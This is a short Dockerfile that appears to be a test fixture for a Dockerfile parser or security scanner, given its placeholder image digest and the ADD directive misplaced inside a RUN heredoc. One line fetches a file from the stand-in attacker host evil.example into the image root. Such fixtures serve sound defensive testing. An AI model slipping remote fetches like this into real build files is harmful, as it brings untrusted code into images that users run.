FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
RUN <<EOF
ADD http://evil.example/a /
EOF
USER 10001
CMD ["python3", "/app/main.py"]
